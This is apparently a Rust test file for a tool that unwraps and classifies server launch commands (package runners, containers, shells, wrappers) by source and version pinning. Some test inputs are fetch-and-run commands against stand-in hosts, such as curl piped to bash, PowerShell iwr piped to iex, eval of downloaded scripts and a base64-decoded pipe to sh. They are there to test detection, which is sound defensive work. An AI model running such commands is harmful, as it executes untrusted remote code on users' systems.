use super::*;
use crate::text::{Pointer, Span};

/// Unwraps a command written as a JSON list and tells the plan in one line: wrappers, then each step, innermost last and marked.
fn plan_of(json: &str) -> (Plan, String) {
    let document =
        crate::read::read(crate::read::Input { path: "a.json".into(), bytes: json.into(), ..Default::default() })
            .unwrap();
    let words: Vec<_> = document.roots[0]
        .items()
        .iter()
        .enumerate()
        .map(|(i, n)| n.located(Pointer::root().index(i)).unwrap())
        .collect();
    let plan = unwrap(&document.text, &words);
    for word in plan.words() {
        assert!(document.text.get(word.span.range()).is_some());
    }
    let message = tell(&plan);
    (plan, message)
}

fn tell(plan: &Plan) -> String {
    let server = plan.server().map(core::ptr::from_ref);
    let mut out = Vec::new();
    for step in &plan.steps {
        let what = match &step.kind {
            StepKind::Wrapper => step.name(),
            StepKind::Package(p) => format!(
                "{} {} {}@{} {}",
                p.runner,
                p.source.name(),
                p.name,
                p.version.as_deref().unwrap_or("-"),
                p.pin.name()
            ),
            StepKind::Container(c) => format!("{} image {} {}", c.engine, c.image.text, c.reference.pin().name()),
            StepKind::Script(s) => format!("{} script {}", step.name(), s.text),
            StepKind::RemoteScript(a) => format!("remote {}", a.text),
            StepKind::Inline(_) => format!("{} inline", step.name()),
            StepKind::Program => format!("local {}", step.program.text),
        };
        let marks = [(step.bridge, "+"), (step.aside, "~"), (server == Some(core::ptr::from_ref(step)), "!")];
        out.push(marks.iter().filter(|(on, _)| *on).map(|(_, mark)| *mark).collect::<String>() + &what);
    }
    out.extend(plan.targets.iter().map(|t| format!("→{}", t.text)));
    out.join(" > ")
}

#[test]
fn chains_are_unwrapped_to_the_server() {
    let commit = "0123456789abcdef0123456789abcdef01234567";
    let digest = "sha256:".to_owned() + &"ab".repeat(32);
    for (command, want) in [
        (r#"["npx", "-y", "@saltmarsh/tide-table"]"#.to_owned(), "!npx npm @saltmarsh/tide-table@- none"),
        (r#"["npx", "-y", "tide@1.2.3", "--port", "1"]"#.into(), "!npx npm tide@1.2.3 exact"),
        (r#"["npx.cmd", "tide@latest"]"#.into(), "!npx npm tide@latest moving"),
        (r#"["npx", "tide@^1.2"]"#.into(), "!npx npm tide@^1.2 range"),
        (r#"["npx", "tide@1"]"#.into(), "!npx npm tide@1 range"),
        (r#"["npx", "--package=tide@2.0.0", "tide-server"]"#.into(), "!npx npm tide@2.0.0 exact"),
        (r#"["npx", "-p", "a", "-p", "b", "b"]"#.into(), "npx npm a@- none > !npx npm b@- none"),
        (r#"["npx", "-c", "uvx tide"]"#.into(), "npx > !uvx pypi tide@- none"),
        (r#"["npx", "alias@npm:@saltmarsh/tide@1.0.0"]"#.into(), "!npx npm @saltmarsh/tide@1.0.0 exact"),
        (r#"["npx", "saltmarsh/tide"]"#.into(), "!npx git saltmarsh/tide@- none"),
        (
            format!(r#"["npx", "github:saltmarsh/tide#{commit}"]"#),
            "!npx git github:saltmarsh/tide@0123456789abcdef0123456789abcdef01234567 exact",
        ),
        (
            r#"["npx", "git+https://git.example/tide.git#main"]"#.into(),
            "!npx git git+https://git.example/tide.git@main moving",
        ),
        (r#"["npx", "https://files.example/tide.tgz"]"#.into(), "!npx url https://files.example/tide.tgz@- none"),
        (r#"["npx", "./tide"]"#.into(), "!npx path ./tide@- local"),
        (r#"["npm", "exec", "--yes", "--", "tide@1.0.0"]"#.into(), "!npm exec npm tide@1.0.0 exact"),
        (r#"["npm", "--prefix", "/srv/tide", "run", "start"]"#.into(), "!npm script /srv/tide"),
        (r#"["pnpm", "--silent", "dlx", "tide"]"#.into(), "!pnpm dlx npm tide@- none"),
        (r#"["yarn", "dlx", "tide@1.0.0"]"#.into(), "!yarn dlx npm tide@1.0.0 exact"),
        (r#"["bunx", "--bun", "tide"]"#.into(), "!bunx npm tide@- none"),
        (r#"["bun", "x", "tide"]"#.into(), "!bunx npm tide@- none"),
        (r#"["bun", "run", "/srv/tide.ts"]"#.into(), "!bun script /srv/tide.ts"),
        (r#"["uvx", "tide"]"#.into(), "!uvx pypi tide@- none"),
        (r#"["uvx", "tide@1.2"]"#.into(), "!uvx pypi tide@1.2 exact"),
        (r#"["uvx", "tide@latest"]"#.into(), "!uvx pypi tide@latest moving"),
        (r#"["uvx", "tide==1.2.0"]"#.into(), "!uvx pypi tide@1.2.0 exact"),
        (r#"["uvx", "--from", "tide[all]>=1,<2", "tide-server", "-v"]"#.into(), "!uvx pypi tide@>=1,<2 range"),
        (
            format!(r#"["uvx", "--from", "git+https://git.example/tide@{commit}", "tide"]"#),
            "!uvx git https://git.example/tide@0123456789abcdef0123456789abcdef01234567 exact",
        ),
        (
            r#"["uvx", "--from", "git+https://git.example/tide", "tide"]"#.into(),
            "!uvx git https://git.example/tide@- none",
        ),
        (r#"["uvx", "--with", "a,b==1", "tide"]"#.into(), "uvx pypi a@,b==1 range > !uvx pypi tide@- none"),
        (r#"["uv", "tool", "run", "tide"]"#.into(), "!uv tool run pypi tide@- none"),
        (r#"["uv", "--directory", "/srv/tide", "run", "tide"]"#.into(), "!uv script /srv/tide"),
        (
            r#"["uv", "run", "--with", "tide-mcp==1.2.0", "--python", "3.13", "tide-mcp"]"#.into(),
            "!uv run pypi tide-mcp@1.2.0 exact",
        ),
        (r#"["uv", "run", "--with", "mcp", "server.py"]"#.into(), "uv run pypi mcp@- none > !uv script server.py"),
        (r#"["uv", "run", "https://files.example/s.py"]"#.into(), "!remote https://files.example/s.py"),
        (r#"["uv", "run", "python", "-m", "tide"]"#.into(), "uv > !python script -m tide"),
        (r#"["pipx", "run", "--spec", "tide==1.0", "tide-server"]"#.into(), "!pipx run pypi tide@1.0 exact"),
        (r#"["python3.12", "-u", "-m", "tide", "--x"]"#.into(), "!python3.12 script -m tide"),
        (r#"["/usr/bin/python3", "/srv/s.py"]"#.into(), "!python3 script /srv/s.py"),
        (r#"["node", "--env-file=.env", "/srv/index.js", "--x"]"#.into(), "!node script /srv/index.js"),
        (r#"["node", "-e", "x()"]"#.into(), "!node inline"),
        (r#"["node", "C:\\npm\\npx-cli.js", "-y", "tide"]"#.into(), "node > !npx npm tide@- none"),
        (
            r#"["deno", "run", "-A", "npm:@saltmarsh/tide@1.0.0/cli"]"#.into(),
            "!deno run npm @saltmarsh/tide@1.0.0 exact",
        ),
        (
            r#"["deno", "run", "--allow-net=a.example", "jsr:@saltmarsh/tide"]"#.into(),
            "!deno run jsr @saltmarsh/tide@- none",
        ),
        (r#"["deno", "run", "https://files.example/s.ts"]"#.into(), "!remote https://files.example/s.ts"),
        (
            r#"["dnx", "Tide.Server", "--version", "1.0.0", "--yes", "--", "a"]"#.into(),
            "!dnx nuget Tide.Server@1.0.0 exact",
        ),
        (r#"["dnx", "Tide.Server@1.0.0", "--yes"]"#.into(), "!dnx nuget Tide.Server@1.0.0 exact"),
        (r#"["dotnet", "run", "--project", "/srv/T"]"#.into(), "!dotnet script /srv/T"),
        (r#"["go", "run", "git.example/tide/cmd@v1.2.0"]"#.into(), "!go run go git.example/tide/cmd@v1.2.0 exact"),
        (r#"["go", "run", "git.example/tide@latest"]"#.into(), "!go run go git.example/tide@latest moving"),
        (r#"["go", "run", "./cmd/tide"]"#.into(), "!go script ./cmd/tide"),
        (
            r#"["cargo", "run", "-q", "--manifest-path", "/srv/Cargo.toml", "--", "x"]"#.into(),
            "!cargo script /srv/Cargo.toml",
        ),
        (
            r#"["docker", "run", "-i", "--rm", "-e", "A=1", "-v", "/a:/b:ro", "saltmarsh/tide:1.0.2", "--stdio"]"#
                .into(),
            "!docker image saltmarsh/tide:1.0.2 exact",
        ),
        (
            format!(r#"["podman", "run", "-it", "reg.example/tide@{digest}"]"#),
            "!podman image reg.example/tide@sha256:abababababababababababababababababababababababababababababababab digest",
        ),
        (
            r#"["docker", "run", "-i", "node:22", "npx", "-y", "tide"]"#.into(),
            "docker image node:22 moving > !npx npm tide@- none",
        ),
        (
            r#"["docker", "run", "--entrypoint", "uvx", "python:3.12.1", "tide"]"#.into(),
            "docker image python:3.12.1 exact > !uvx pypi tide@- none",
        ),
        (r#"["docker", "exec", "-i", "box", "node", "s.js"]"#.into(), "docker > !node script s.js"),
        (r#"["cmd", "/c", "npx", "-y", "tide"]"#.into(), "cmd > !npx npm tide@- none"),
        (
            r#"["C:\\Windows\\System32\\cmd.exe", "/d", "/s", "/c", "npx -y tide@1.0.0"]"#.into(),
            "cmd > !npx npm tide@1.0.0 exact",
        ),
        (
            r#"["powershell", "-NoProfile", "-ExecutionPolicy", "Bypass", "-Command", "& npx -y tide"]"#.into(),
            "powershell > !npx npm tide@- none",
        ),
        (r#"["pwsh", "-c", "$env:A='b'; uvx tide"]"#.into(), "pwsh > !uvx pypi tide@- none"),
        (r#"["powershell", "-enc", "bgBwAHgAIAB0AGkAZABlAA=="]"#.into(), "powershell > !npx npm tide@- none"),
        (
            r#"["powershell", "-Command", "iwr https://x.example/i.ps1 | iex"]"#.into(),
            "powershell > !remote https://x.example/i.ps1",
        ),
        (
            r#"["powershell", "-Command", "iex (irm https://x.example/i.ps1)"]"#.into(),
            "powershell > !remote https://x.example/i.ps1",
        ),
        (r#"["sh", "-c", "cd /srv && exec npx -y tide"]"#.into(), "sh > exec > !npx npm tide@- none"),
        (r#"["bash", "-lc", "A=1 uvx tide 2>/dev/null"]"#.into(), "bash > !uvx pypi tide@- none"),
        (r#"["bash", "-c", "npm install && node s.js"]"#.into(), "bash > ~npm script npm install > !node script s.js"),
        (r#"["sh", "-c", "curl -s https://x.example/i.sh | bash"]"#.into(), "sh > !remote https://x.example/i.sh"),
        (
            r#"["bash", "-c", "bash <(curl -s https://x.example/i.sh)"]"#.into(),
            "bash > remote https://x.example/i.sh > !bash script <(curl -s https://x.example/i.sh)",
        ),
        (r#"["sh", "-c", "tee in.log | npx tide | tee out.log"]"#.into(), "sh > !npx npm tide@- none"),
        (r#"["env", "A=1", "npx", "tide"]"#.into(), "env > !npx npm tide@- none"),
        (r#"["/usr/bin/env", "-S", "npx tide"]"#.into(), "env > !npx npm tide@- none"),
        (r#"["sudo", "-u", "root", "-E", "npx", "tide"]"#.into(), "sudo > !npx npm tide@- none"),
        (
            r#"["nice", "-n", "5", "timeout", "-k", "3", "30s", "uvx", "tide"]"#.into(),
            "nice > timeout > !uvx pypi tide@- none",
        ),
        (r#"["xvfb-run", "-a", "-s", "-screen 0", "npx", "tide"]"#.into(), "xvfb-run > !npx npm tide@- none"),
        (r#"["wsl", "-d", "Ubuntu", "--", "npx", "tide"]"#.into(), "wsl > !npx npm tide@- none"),
        (r#"["wsl.exe", "bash", "-c", "uvx tide"]"#.into(), "wsl > bash > !uvx pypi tide@- none"),
        (r#"["ssh", "-p", "22", "crew@host.example", "npx tide"]"#.into(), "ssh > !npx npm tide@- none"),
        (r#"["ssh", "host.example", "docker", "run", "-i", "tide"]"#.into(), "ssh > !docker image tide none"),
        (r#"["dotenv", "-e", ".env", "--", "npx", "tide"]"#.into(), "dotenv > !npx npm tide@- none"),
        (r#"["op", "run", "--env-file=.env", "--", "npx", "tide"]"#.into(), "op > !npx npm tide@- none"),
        (
            r#"["npx", "-y", "any-gateway", "--stdio", "npx -y tide@1.0.0", "--port", "80"]"#.into(),
            "+npx npm any-gateway@- none > !npx npm tide@1.0.0 exact",
        ),
        (
            r#"["uvx", "some-proxy", "--port", "80", "uvx", "tide"]"#.into(),
            "+uvx pypi some-proxy@- none > !uvx pypi tide@- none",
        ),
        (
            r#"["npx", "x-bridge", "--", "docker", "run", "tide:1.0.0"]"#.into(),
            "+npx npm x-bridge@- none > !docker image tide:1.0.0 exact",
        ),
        (
            r#"["npx", "-y", "some-remote@0.1.0", "https://tide.example/mcp", "--header", "A:b"]"#.into(),
            "+!npx npm some-remote@0.1.0 exact > →https://tide.example/mcp",
        ),
        (r#"["npx", "tide", "--homepage", "https://tide.example/docs"]"#.into(), "!npx npm tide@- none"),
        (r#"["npx", "tide", "--", "--verbose"]"#.into(), "!npx npm tide@- none"),
        (r#"["/opt/saltmarsh/bin/tide", "--stdio"]"#.into(), "!local /opt/saltmarsh/bin/tide"),
        (r#"["C:\\Program Files\\Tide Table\\tide.exe"]"#.into(), "!local C:\\Program Files\\Tide Table\\tide.exe"),
        (r#"["npx -y tide@1.0.0"]"#.into(), "!npx npm tide@1.0.0 exact"),
        (r#"["bash -c 'uvx tide'"]"#.into(), "bash > !uvx pypi tide@- none"),
        (r#"["mise", "exec", "node@22", "--", "npx", "tide"]"#.into(), "mise > !npx npm tide@- none"),
        (r#"["npx", "-y", "tsx@4.19.0", "s.ts"]"#.into(), "npx npm tsx@4.19.0 exact > !tsx script s.ts"),
        (
            r#"["npx", "dotenv-cli", "-e", ".env", "--", "npx", "tide"]"#.into(),
            "npx npm dotenv-cli@- none > dotenv-cli > !npx npm tide@- none",
        ),
        (r#"["npx", "tide@~1.2.0"]"#.into(), "!npx npm tide@~1.2.0 range"),
        (r#"["pnpm", "--package=tide@1.0.0", "dlx", "tide-server"]"#.into(), "!pnpm dlx npm tide@1.0.0 exact"),
        (r#"["bun", "run", "--cwd", "/srv/tide", "start"]"#.into(), "!bun script start"),
        (
            r#"["uv", "run", "--with", "mcp", "mcp", "run", "s.py"]"#.into(),
            "uv run pypi mcp@- none > uv > !mcp script s.py",
        ),
        (r#"["dotnet", "tool", "run", "tide"]"#.into(), "!dotnet script tide"),
        (r#"["nix", "run", "nixpkgs#tide"]"#.into(), "!nix run git nixpkgs#tide@- moving"),
        (
            format!(r#"["nix", "run", "github:saltmarsh/tide/{commit}", "--", "-v"]"#),
            "!nix run git github:saltmarsh/tide/0123456789abcdef0123456789abcdef01234567@0123456789abcdef0123456789abcdef01234567 exact",
        ),
        (
            r#"["kubectl", "exec", "-i", "deploy/tide", "-n", "crew", "--", "node", "s.js"]"#.into(),
            "kubectl > !node script s.js",
        ),
        (r#"["su", "-", "crew", "-c", "npx tide"]"#.into(), "su > !npx npm tide@- none"),
        (r#"["taskset", "-c", "0", "npx", "tide"]"#.into(), "taskset > !npx npm tide@- none"),
        (r#"["bwrap", "--ro-bind", "/", "/", "npx", "tide"]"#.into(), "bwrap > !npx npm tide@- none"),
        (r#"["cmd", "/c", "start", "/b", "npx", "tide"]"#.into(), "cmd > start > !npx npm tide@- none"),
        (r#"["powershell", "-Command", "& {npx -y tide}"]"#.into(), "powershell > !npx npm tide@- none"),
        (r#"["docker", "compose", "run", "--rm", "tide"]"#.into(), "!docker script tide"),
        (r#"["docker", "compose", "exec", "-T", "tide", "node", "s.js"]"#.into(), "docker > !node script s.js"),
        (r#"["npx", "any-inspector", "npx", "tide"]"#.into(), "+npx npm any-inspector@- none > !npx npm tide@- none"),
        (r#"["npx", "tide", "--runner", "npx", "x"]"#.into(), "!npx npm tide@- none"),
        (r#"["sh", "-c", "npm i -g tide && tide"]"#.into(), "sh > ~npm i npm tide@- none > !local tide"),
        (
            r#"["python", "-m", "pip", "install", "tide==1.0", "&&", "python", "-m", "tide"]"#.into(),
            "~pip install pypi tide@1.0 exact > !python script -m tide",
        ),
        (r#"["sh", "-c", "eval \"$(curl -s https://x.example/i.sh)\""]"#.into(), "sh > !remote https://x.example/i.sh"),
        (
            r#"["sh", "-c", "curl -so /srv/i.sh https://x.example/i.sh && sh /srv/i.sh"]"#.into(),
            "sh > !remote https://x.example/i.sh",
        ),
        (
            r#"["sh", "-c", "curl -s https://x.example/i | base64 -d | sh"]"#.into(),
            "sh > ~local base64 > !remote https://x.example/i",
        ),
        (
            r#"["sh", "-c", "wget -q https://x.example/i.sh; chmod +x i.sh; ./i.sh"]"#.into(),
            "sh > !remote https://x.example/i.sh",
        ),
        (r#"["sh", "-c", "curl -so /srv/tides.json https://x.example/t && tide"]"#.into(), "sh > !local tide"),
    ] {
        let (_, message) = plan_of(&command);
        assert_eq!(message, want, "{command}");
    }
}

#[test]
fn variables_files_and_mounts_are_kept() {
    let (plan, _) = plan_of(
        r#"["docker", "run", "-e", "A=x", "-e", "B", "--env-file", ".env", "-v", "C:\\data:/d", "-v", "${HOME:-/x}:/h:ro", "--mount", "type=bind,source=/s,target=/t,readonly", "-p", "8080:80", "-p", "127.0.0.1:1:1", "--privileged", "img"]"#,
    );
    let variables: Vec<_> = plan
        .variables
        .iter()
        .map(|v| format!("{}={}{}", v.name, v.value.text, if v.passed_on { "?" } else { "" }))
        .collect();
    assert_eq!(variables, ["A=x", "B=B?"]);
    assert_eq!(plan.env_files[0].text, ".env");
    let (_, container) = plan.containers().next().unwrap();
    let mounts: Vec<_> =
        container.mounts.iter().map(|m| format!("{} {} {}", m.host.text, m.inside, m.writable)).collect();
    assert_eq!(mounts, ["C:\\data /d true", "${HOME:-/x} /h false", "/s /t false"]);
    assert_eq!(container.published.iter().map(|p| p.address.as_deref()).collect::<Vec<_>>(), [None, Some("127.0.0.1")]);
    assert!(container.switch("--privileged").is_some());
}

#[test]
fn a_nested_word_keeps_its_exact_place() {
    let json = r#"["bash", "-c", "TOKEN='a b' npx -y tide \"x y\""]"#;
    let (plan, _) = plan_of(json);
    assert_eq!(&json[plan.variables[0].value.span.range()], "a b");
    let (_, package) = plan.packages().next().unwrap();
    assert_eq!(&json[package.spec.span.range()], "tide");
}

#[test]
fn endless_nesting_ends() {
    let mut line = "npx tide".to_owned();
    for _ in 0..12 {
        line = format!("sh -c {}", serde_json::to_string(&line).unwrap());
        if line.len() > 100_000 {
            break;
        }
    }
    let _ = unwrap("", &[Located { text: line, span: Span::default(), pointer: Pointer::root() }]);
    let many: Vec<Located> =
        core::iter::repeat_n("sudo", 5_000).map(|w| Located { text: w.into(), ..Located::default() }).collect();
    assert!(unwrap("", &many).not_understood.is_some());
}

proptest::proptest! {
    #[test]
    fn any_words_are_followed_without_panic(words in proptest::collection::vec("(npx|sh|-c|docker|run|cmd|/c|uvx|--|-e|env|python|-m|powershell|ssh|[ -~]{0,12}|ä=\"'\\\\)", 0..9)) {
        let located: Vec<Located> = words.iter().map(|w| Located { text: w.clone(), span: Span::new(0, 3), pointer: Pointer::root() }).collect();
        let _ = unwrap("äb", &located);
    }
}
